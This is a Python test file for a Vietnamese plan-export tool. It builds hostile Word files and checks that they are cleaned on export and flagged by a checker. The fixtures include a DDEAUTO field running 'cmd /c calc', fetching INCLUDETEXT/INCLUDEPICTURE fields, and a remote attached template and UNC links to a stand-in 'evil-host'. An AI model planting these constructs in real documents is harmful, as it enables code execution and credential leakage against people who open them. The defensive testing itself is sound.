"""Hostile Word templates are cleaned before export, and `check-docx` reports hostile content
in other people's files as *nguy cơ an toàn* findings.

Each hostile file is built here: a real template (or a real export) saved by python-docx, then
raw XML edits in the zip (a macro project, external relationships of every kind, an attached
template, altChunk, an embedded object and fields that fetch).
"""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pytest

from planner.docx.safety import KIND_LABELS, clean_docx, find_hostile, removal_lines
from planner.docx.writer import clean_template, export_docx
from planner.nd30.checker import check_docx
from planner.nd30.safety_rules import R_SAFETY
from planner.paths import TEMPLATE_PATH
from planner.sample import sample_plan
from tests.conftest import ROOT

TODAY = date(2021, 3, 1)
EVIL = "evil-host"
CT_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
CT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = f'xmlns:r="{REL}"'

HOSTILE_BODY = (
    f'<w:altChunk {R} r:id="rIdAlt"/>'
    "<w:p><w:fldSimple w:instr=' INCLUDETEXT \"\\\\\\\\evil-host\\\\s\\\\a.docx\" '>"
    "<w:r><w:t>kết quả</w:t></w:r></w:fldSimple></w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">PICTURE "http://evil-host/p.png" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>ảnh</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    f"<w:p><w:r><w:object {R}><w:t>ole</w:t></w:object></w:r>"
    f'<w:hyperlink {R} r:id="rIdLink"><w:r><w:t>bấm</w:t></w:r></w:hyperlink></w:p>'
)


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def make_hostile(data: bytes) -> bytes:
    """`data` (a .docx) with every kind of hostile content added by raw zip edits."""
    src = zipfile.ZipFile(io.BytesIO(data))
    parts = {i.filename: src.read(i) for i in src.infolist()}
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace(CT_MAIN, CT_MACRO).replace(
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    parts["[Content_Types].xml"] = ct.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    parts["word/afchunk.htm"] = b"<html><body>hidden</body></html>"
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        _rel("rIdVba", "vbaProject", "vbaProject.bin", external=False)
        + _rel("rIdAlt", "aFChunk", "afchunk.htm", external=False)
        + _rel("rIdOle", "oleObject", f"file:///\\\\{EVIL}\\share\\x.xlsx")
        + _rel("rIdImg", "image", f"http://{EVIL}/track.png")
        + _rel("rIdLink", "hyperlink", f"file:///\\\\{EVIL}\\share")
        + "</Relationships>",
    )
    parts["word/_rels/document.xml.rels"] = rels.encode()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(
        r"(<w:settings[^>]*>)",
        lambda m: (
            m.group(1).replace(">", f" {R}>", 1) + '<w:attachedTemplate r:id="rIdT"/>'
            if "xmlns:r=" not in m.group(1)
            else m.group(1) + '<w:attachedTemplate r:id="rIdT"/>'
        ),
        settings,
        count=1,
    )
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + _rel("rIdT", "attachedTemplate", f"file:///\\\\{EVIL}\\t\\normal.dotm")
        + "</Relationships>"
    ).encode()
    doc = parts["word/document.xml"].decode()
    doc = doc.replace("<w:body>", "<w:body>" + HOSTILE_BODY, 1)
    parts["word/document.xml"] = doc.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return out.getvalue()


def _all_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = "\n".join(zf.namelist())
        return (
            names + "\n" + "\n".join(zf.read(n).decode("utf-8", "replace") for n in zf.namelist())
        )


def _assert_nothing_hostile(data: bytes) -> None:
    text = _all_text(data)
    for needle in (
        EVIL,
        "vbaProject",
        "macroEnabled",
        "altChunk",
        "afchunk",
        "attachedTemplate",
        "INCLUDE",
        "DDEAUTO",
        'TargetMode="External"',
        "<w:object",
    ):
        assert needle not in text, needle


@pytest.fixture(scope="module")
def hostile_template() -> bytes:
    return make_hostile(TEMPLATE_PATH.read_bytes())


def test_the_hostile_template_really_holds_every_kind(hostile_template: bytes) -> None:
    kinds = {r.kind for r in find_hostile(hostile_template, "mau.docx")}
    assert kinds == set(KIND_LABELS)
    text = _all_text(hostile_template)
    assert EVIL in text and "vbaProject" in text and "altChunk" in text


def test_export_with_a_hostile_template_carries_none_of_it(hostile_template: bytes) -> None:
    data = export_docx(sample_plan(), today=TODAY, template=hostile_template)
    _assert_nothing_hostile(data)
    assert not [f for f in check_docx(data, "out.docx") if f.rule == R_SAFETY]


def test_clean_template_says_what_it_removed(hostile_template: bytes) -> None:
    cleaned, removed = clean_template(hostile_template, "mau-xa.docx")
    _assert_nothing_hostile(cleaned)
    assert {r.kind for r in removed} == set(KIND_LABELS)
    lines = removal_lines(removed, "mau-xa.docx")
    assert len(lines) == len(KIND_LABELS)
    assert all("mau-xa.docx" in line and line.startswith("Lưu ý: đã bỏ") for line in lines)
    # once clean, nothing is left to remove and the bytes stay as they are
    again, none = clean_docx(cleaned, "mau-xa.docx")
    assert none == [] and again == cleaned


def test_an_ordinary_template_is_left_byte_identical() -> None:
    data = TEMPLATE_PATH.read_bytes()
    assert clean_docx(data, "mau.docx") == (data, [])


def test_check_docx_reports_each_kind_as_a_safety_risk() -> None:
    clean_export = export_docx(sample_plan(), today=TODAY)
    assert not [f for f in check_docx(clean_export, "a.docx") if f.rule == R_SAFETY]
    hostile = make_hostile(clean_export)
    findings = [f for f in check_docx(hostile, "b.docx") if f.rule == R_SAFETY]
    messages = " ".join(f.message for f in findings)
    for label in KIND_LABELS.values():
        assert label in messages, label
    assert len(findings) == len(KIND_LABELS)  # one finding per kind


def test_check_docx_flags_bidi_and_invisible_characters() -> None:
    plan_data = export_docx(sample_plan(), today=TODAY)
    with zipfile.ZipFile(io.BytesIO(plan_data)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    doc = parts["word/document.xml"].decode()
    doc = doc.replace("KẾ HOẠCH", "KẾ \u202eHOẠCH", 1).replace("Căn cứ", "Căn\u200b cứ", 1)
    parts["word/document.xml"] = doc.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for n, b in parts.items():
            zf.writestr(n, b)
    findings = [f for f in check_docx(out.getvalue(), "c.docx") if f.rule == R_SAFETY]
    assert len(findings) == 1
    assert "ký tự ẩn hoặc ký tự đổi hướng chữ" in findings[0].message
    assert "U+202E" in findings[0].where and "2 chỗ" in findings[0].message


def test_cli_export_names_removals_and_check_docx_reports_them(
    hostile_template: bytes, tmp_path: Path
) -> None:
    tpl = tmp_path / "mẫu-của-tôi.docx"
    tpl.write_bytes(hostile_template)
    plan = tmp_path / "plan.json"
    env = {
        "PATH": "/usr/bin:/bin",
        "PYTHONPATH": str(ROOT),
        "LANG": "C.UTF-8",
        "PLANNER_DB": str(tmp_path / "db.sqlite"),
        "PLANNER_TODAY": "2021-03-01",
    }

    def run(*argv: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "planner", *argv],
            cwd=tmp_path,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )

    assert run("sample", "-o", str(plan)).returncode == 0
    out = tmp_path / "out.docx"
    r = run("export", str(plan), "-o", str(out), "--template", str(tpl))
    assert r.returncode == 0, r.stderr
    notes = [line for line in r.stderr.splitlines() if line.startswith("Lưu ý: đã bỏ")]
    assert len(notes) == len(KIND_LABELS)
    assert all("mẫu-của-tôi.docx" in line for line in notes)
    _assert_nothing_hostile(out.read_bytes())
    bad = tmp_path / "nguoi-khac.docx"
    bad.write_bytes(make_hostile(out.read_bytes()))
    r = run("check-docx", str(bad), "--json")
    assert r.returncode == 1
    rows = [x for x in json.loads(r.stdout) if x["rule"] == R_SAFETY]
    assert len(rows) == len(KIND_LABELS)
